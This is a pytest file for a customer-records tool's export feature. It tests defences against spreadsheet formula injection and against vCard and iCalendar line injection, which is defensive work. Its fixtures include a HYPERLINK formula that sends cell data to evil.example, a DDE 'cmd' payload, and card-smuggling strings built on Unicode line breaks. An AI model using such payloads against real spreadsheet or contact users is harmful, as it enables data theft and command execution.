"""Exports that attack the reader (issue 16, kind 7): field names are data too. A customer file
with extra fields named like formulas exports to CSV and xlsx with every cell, the header row
included, shown as text by a spreadsheet: no cell starts with a formula character unescaped,
and the xlsx holds no formula at all."""

from __future__ import annotations

import csv
import json
import zipfile
from pathlib import Path

import pytest

from kehu_core.ids import shard
from kehu_core.services.export_tables import FORMULA_START

from .conftest import kehu, kehu_subprocess
from .test_hostile import tree_hash

# (a field's name holds no tab or line break: refused by check since the tenth round, so a
# header cell starting with one is no longer possible; values starting so are in STARTS)
NAMES = ['=HYPERLINK("http://evil.example/?x="&A2,"click")', "+1+1", "-2+3", "@SUM(A1:A9)",
         "=cmd|' /C calc'!A0"]
STARTS = ["\t=1+1", "\r=1+1"]  # values a spreadsheet takes for formulas behind a tab or CR


@pytest.fixture
def store(tmp_path: Path) -> Path:
    path = tmp_path / "store"
    assert kehu("init", str(path), "--no-git").code == 0
    cid = kehu("customer", "add", "--name", "=1+1", "--phone", "13800138000", store=path).out.strip()
    record = path / "customers" / shard(cid) / cid / "customer.yaml"
    extra = "".join(f'{json.dumps(n)}: "=2+{i}"\n' for i, n in enumerate(NAMES))  # JSON is YAML
    extra += "".join(f"start{i}: {json.dumps(v)}\n" for i, v in enumerate(STARTS))
    record.write_text(record.read_text(encoding="utf-8") + extra, encoding="utf-8")
    assert kehu("check", store=path).code == 0
    return path


def _formula_like(cell: str) -> bool:
    return cell.startswith(FORMULA_START)


def test_csv_header_and_cells_are_neutralised(store: Path, tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    result = kehu("export", "--format", "csv", str(out), store=store)
    assert result.code == 0, result.err
    with out.open(encoding="utf-8-sig", newline="") as handle:  # keep a CR inside a cell
        rows = list(csv.reader(handle))
    header, row = rows[0], rows[1]
    for name in NAMES:
        assert "'" + name in header, (name, header)
    for value in STARTS:
        assert "'" + value in row, (value, row)
    assert not [c for c in header + row if _formula_like(c)], header + row


def test_xlsx_holds_no_formula_in_any_cell(store: Path, tmp_path: Path) -> None:
    import openpyxl

    out = tmp_path / "out.xlsx"
    result = kehu("export", "--format", "xlsx", str(out), store=store)
    assert result.code == 0, result.err
    with zipfile.ZipFile(out) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/")]
        xml = "".join(book.read(n).decode() for n in sheets)
    assert "<f>" not in xml and "<f " not in xml
    sheet = openpyxl.load_workbook(out).active
    header = [c for c in sheet[1]]
    # A CR survives as &#13; when openpyxl writes through lxml and becomes LF without it
    # (XML end-of-line handling): either way the name is there, as text.
    assert {c.value.replace("\r", "\n") for c in header} >= {n.replace("\r", "\n") for n in NAMES}
    for row in sheet.iter_rows():
        for cell in row:
            if isinstance(cell.value, str):
                assert cell.data_type == "s" and cell.quotePrefix, (cell.coordinate, cell.value)


def test_an_export_never_overwrites_gits_files_of_the_store(tmp_path: Path) -> None:
    """``.gitattributes`` and ``.gitignore`` decide how every clone merges and what it shares:
    a CSV written over ``.gitignore`` (exit 0) put ``.kehu/``, the index, into the next sync."""
    path = tmp_path / "store"
    assert kehu("init", str(path)).code == 0
    assert kehu("customer", "add", "--name", "李雷", store=path).code == 0
    names = (".gitattributes", ".gitignore", ".gitmodules")
    before = {n: (path / n).read_bytes() if (path / n).exists() else None for n in names}
    for name in names:
        for args in (("export", "--format", "csv", str(path / name)),
                     ("export", "--format", "xlsx", str(path / name)),
                     ("reminders", "--ics", str(path / name))):
            result = kehu(*args, store=path)
            assert result.code == 1 and "inside the store's records" in result.err, (args, result.err)
    assert {n: (path / n).read_bytes() if (path / n).exists() else None for n in names} == before
    assert kehu("export", "--format", "csv", str(path / "customers.csv"), store=path).code == 0  # beside them


def test_an_export_never_overwrites_another_stores_records(tmp_path: Path) -> None:
    """An export of one store (``--store``, ``KEHU_STORE``) run in another store's folder, or
    naming a file of it: ``kehu --store A export --format csv kehu.yaml`` in B wrote a CSV over
    B's kehu.yaml with exit 0, and every command of B then failed. The records of the store a
    target lies in are kept as the store's own are."""
    a, b = tmp_path / "a", tmp_path / "b"
    for path, name in ((a, "李雷"), (b, "韩梅梅")):
        assert kehu("init", str(path)).code == 0
        assert kehu("customer", "add", "--name", name, store=path).code == 0
    (cid,) = (p.name for p in (b / "customers").glob("*/*"))
    record = f"customers/{shard(cid)}/{cid}/customer.yaml"
    before = tree_hash(b)
    for target in ("kehu.yaml", record, "customers/x.csv", ".gitignore", ".git/config", ".kehu/x.csv"):
        for args in (("export", "--format", "csv", target), ("export", "--format", "xlsx", target),
                     ("reminders", "--ics", target)):
            result = kehu_subprocess(*args, store=a, cwd=b)
            assert result.returncode == 1, (args, result.stdout, result.stderr)
            assert f"is inside the store's records ({b.resolve()})" in result.stderr, result.stderr
            assert "Traceback" not in result.stderr
        result = kehu("export", "--format", "csv", str(b / target), store=a)
        assert result.code == 1 and "inside the store's records" in result.err, (target, result.err)
    assert tree_hash(b) == before
    assert kehu("check", store=b).code == 0
    assert kehu_subprocess("export", "--format", "csv", "a.csv", store=a, cwd=b).returncode == 0  # beside them


def test_confidential_fields_in_plain_are_never_written_where_sync_would_share_them(tmp_path: Path) -> None:
    """`kehu sync` commits every file of the store's folder, the folder kehu is run in: an
    `export --reveal` (or the visit cards of a key holder) written there was pushed to the
    team's remote with the confidential fields in plain, to reps with no key for them."""
    from pyrage import x25519

    from .conftest import git

    identity = x25519.Identity.generate()
    key = tmp_path / "wang.txt"
    key.write_text(f"# public key: {identity.to_public()}\n{identity}\n", encoding="utf-8")
    store = tmp_path / "store"
    assert kehu("init", str(store)).code == 0
    with (store / "kehu.yaml").open("a", encoding="utf-8") as config:
        config.write(f"confidential:\n  fields: [family]\n  recipients:\n    王芳: {identity.to_public()}\n")
    secret = "女儿在杭州读大学"
    assert kehu("customer", "add", "--name", "赵敏", "--id", "c1", "--owner", "王芳",
                "--set", f"family={secret}", store=store).code == 0
    git(store, "add", "-A")
    git(store, "commit", "-qm", "赵敏")
    (store / "reports").mkdir()  # a folder of one's own in the store: shared by sync alike
    for args in (("export", "--format", "csv", "--reveal", str(store / "all.csv")),
                 ("export", "--format", "xlsx", "--reveal", str(store / "reports" / "all.xlsx")),
                 ("visits", "cards", "--owner", "王芳", "--date", "2026-11-21", str(store / "cards.pdf"))):
        result = kehu("--identity", str(key), *args, store=store)
        assert result.code == 1 and "holds confidential fields in plain" in result.err, (args, result.err)
    assert git(store, "status", "--porcelain") == ""  # nothing there for a sync to commit
    outside = tmp_path / "all.csv"
    assert kehu("--identity", str(key), "export", "--format", "csv", "--reveal", str(outside), store=store).code == 0
    assert secret in outside.read_text(encoding="utf-8-sig")
    plain = store / "plain.csv"  # an export without them may go where the user likes
    assert kehu("export", "--format", "csv", str(plain), store=store).code == 0
    assert secret not in plain.read_text(encoding="utf-8-sig")


DISGUISED = [" =cmd|' /C calc'!A0", "\u00a0@SUM(A1:A9)", "\u3000+1+1", "＝HYPERLINK(\"http://evil.example\")",
             "＋1+1", "－2+3", "＠SUM(1)", "\n=1+1", "  \t-2+3"]


def test_formulas_behind_spaces_or_in_full_width_are_neutralised_in_csv(tmp_path: Path) -> None:
    """A spreadsheet skips the spaces before a formula (a no-break or an ideographic space too),
    Excel in an East Asian locale takes ``＝`` for ``=``, and a cell may start with a line break:
    `` =cmd|' /C calc'!A0`` was written as it is, with exit 0. Each such cell, a name, a value
    or a field name, now gets the apostrophe."""
    path = tmp_path / "store"
    assert kehu("init", str(path), "--no-git").code == 0
    cid = kehu("customer", "add", "--name", "王芳", "--phone", "13800138000", store=path).out.strip()
    record = path / "customers" / shard(cid) / cid / "customer.yaml"
    extra = "".join(f"{json.dumps(f'x{i}' + n.strip())}: {json.dumps(n)}\n" for i, n in enumerate(DISGUISED))
    extra += "".join(f"{json.dumps(n)}: plain{i}\n" for i, n in enumerate(DISGUISED) if n.strip() == n)
    record.write_text(record.read_text(encoding="utf-8") + extra, encoding="utf-8")
    assert kehu("check", store=path).code == 0
    out = tmp_path / "out.csv"

    result = kehu("export", "--format", "csv", str(out), store=path)

    assert result.code == 0, result.err
    with out.open(encoding="utf-8-sig", newline="") as handle:
        header, row = list(csv.reader(handle))
    cells = header + row
    for value in DISGUISED:
        assert "'" + value in cells, (value, cells)
    leads = set("=+-@＝＋－＠")
    assert not [c for c in cells if c.lstrip()[:1] in leads or c.startswith(FORMULA_START)], cells


BREAKS = ["\x85", "\u2028", "\u2029"]


def test_unicode_line_breaks_never_end_a_vcard_or_icalendar_line(tmp_path: Path) -> None:
    """vCard and iCalendar escape CR and LF in a value, not NEL (U+0085) or U+2028/U+2029,
    which records may hold and a reader may end a line at (Python's ``splitlines``, as kehu's own
    vCard import did): a name ``"A\\u0085TEL:…"`` was written raw, and importing the export
    made a card of a note's ``END:VCARD\\u2028BEGIN:VCARD\\u2028FN:ghost`` and a phone of the
    name. They are written as ``\\n`` now, every line ends at CRLF, and reading a vCard cuts
    lines at CR and LF only."""
    path = tmp_path / "store"
    assert kehu("init", str(path), "--no-git").code == 0
    cid = kehu("customer", "add", "--name", "王芳", "--birthday", "1990-01-02", store=path).out.strip()
    record = path / "customers" / shard(cid) / cid / "customer.yaml"
    a, b, c = BREAKS
    # a name or an organization holds no line break now (one line: test_one_line_fields); the
    # texts of many lines still may
    fields = {"name": "A", "family": f"A{a}TEL:+8613800000000{b}EMAIL:evil@example.com",
              "notes": f"n{c}END:VCARD{a}BEGIN:VCARD{b}FN:ghost{c}UID:ghost",
              "personality": f"o{b}NOTE:x", "wechat": f"w{a}TEL:+8613900000000", "其他": f"x{b}y"}
    text = record.read_text(encoding="utf-8")
    record.write_text("".join(line + "\n" for line in text.splitlines() if not line.startswith("name:"))
                      + "".join(f"{json.dumps(k)}: {json.dumps(v)}\n" for k, v in fields.items()), encoding="utf-8")
    assert kehu("check", store=path).code == 0
    outputs = {f: tmp_path / f"out.{f}" for f in ("vcf", "ics")}
    assert kehu("export", "--format", "vcard", str(outputs["vcf"]), store=path).code == 0
    assert kehu("export", "--format", "ics", str(outputs["ics"]), store=path).code == 0
    reminders = tmp_path / "reminders.ics"
    assert kehu("--today", "2026-12-05", "reminders", "--days", "400", "--ics", str(reminders), store=path).code == 0

    for out in (*outputs.values(), reminders):
        written = out.read_bytes().decode("utf-8")
        assert not [ch for ch in BREAKS if ch in written], out
        assert len(written.splitlines()) == written.count("\r\n"), out

    other = tmp_path / "other"
    assert kehu("init", str(other), "--no-git").code == 0
    result = kehu("import", str(outputs["vcf"]), store=other)
    assert result.code == 0, result.err
    listed = json.loads(kehu("customer", "list", "--json", store=other).out)
    assert len(listed) == 1 and not listed[0]["phones"] and not listed[0]["emails"], listed
    assert "ghost" in listed[0]["notes"] and listed[0]["wechat"] == "w\nTEL:+8613900000000"


def test_a_vcard_value_holding_a_unicode_line_break_is_read_as_one_line(tmp_path: Path) -> None:
    """A card from another program whose NOTE holds U+2028 or NEL: kehu's import cut its line
    there (``str.splitlines``) and took what followed for properties of the card (a phone)."""
    path = tmp_path / "store"
    assert kehu("init", str(path), "--no-git").code == 0
    card = tmp_path / "a.vcf"
    card.write_bytes("BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Ann\r\nNOTE:hello\x85TEL:+8613800000009\u2028"
                     "EMAIL:evil@example.com\r\nEND:VCARD\r\n".encode())
    result = kehu("import", str(card), store=path)
    assert result.code == 0, result.err
    (ann,) = json.loads(kehu("customer", "list", "--json", store=path).out)
    assert ann["phones"] == [] and ann["emails"] == []
    assert ann["notes"] == "hello\x85TEL:+8613800000009\u2028EMAIL:evil@example.com"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_leading_apostrophe_survives_an_export_and_an_import(tmp_path: Path, fmt: str) -> None:
    """``kehu import`` takes a cell's leading apostrophe for Excel's "this is text" mark (what
    kehu's CSV export puts before ``=…``) and drops it: a name ``'Quote`` and a note ``'=1+1``
    came back as ``Quote`` and ``=1+1`` — the note now a formula in the next export's reader.
    An export doubles such an apostrophe, so the import gives back what was written."""
    path, other = tmp_path / "store", tmp_path / "other"
    for store in (path, other):
        assert kehu("init", str(store), "--no-git").code == 0
    added = kehu("customer", "add", "--name", "'Quote", "--phone", "13800138000", "--note", "'=1+1", store=path)
    assert added.code == 0, added.err
    out = tmp_path / f"out.{fmt}"
    assert kehu("export", "--format", fmt, str(out), store=path).code == 0
    result = kehu("import", str(out), store=other)
    assert result.code == 0, result.err
    (back,) = json.loads(kehu("customer", "list", "--json", store=other).out)
    assert (back["name"], back["notes"], back["phones"]) == ("'Quote", "'=1+1", ["+8613800138000"])


def test_an_export_to_a_folder_name_ending_in_a_slash_writes_no_file_of_that_name(store: Path, tmp_path: Path) -> None:
    """`kehu export newdir/ --format csv` (the folder not made yet) wrote a file named newdir
    with exit 0: the path was made a Path, which drops the slash, before kehu saw it. A name
    ending in / means a folder: refused when there is none (or it is a file), as
    `kehu reminders --ics` and `kehu visits cards` do."""
    (tmp_path / "afile").write_text("kept\n", encoding="utf-8")
    for where in (f"{tmp_path}/newdir/", f"{tmp_path}/afile/"):  # as typed (a Path drops the /)
        for args in (["export", where, "--format", "csv"], ["reminders", "--ics", where]):
            before = tree_hash(store)
            result = kehu(*args, store=store)
            assert result.code == 1, (args, result.out, result.err)
            assert f"{where}: the folder {where}" in result.err, result.err
            assert "Traceback" not in result.err
            assert tree_hash(store) == before
    assert not (tmp_path / "newdir").exists()
    assert (tmp_path / "afile").read_text(encoding="utf-8") == "kept\n"
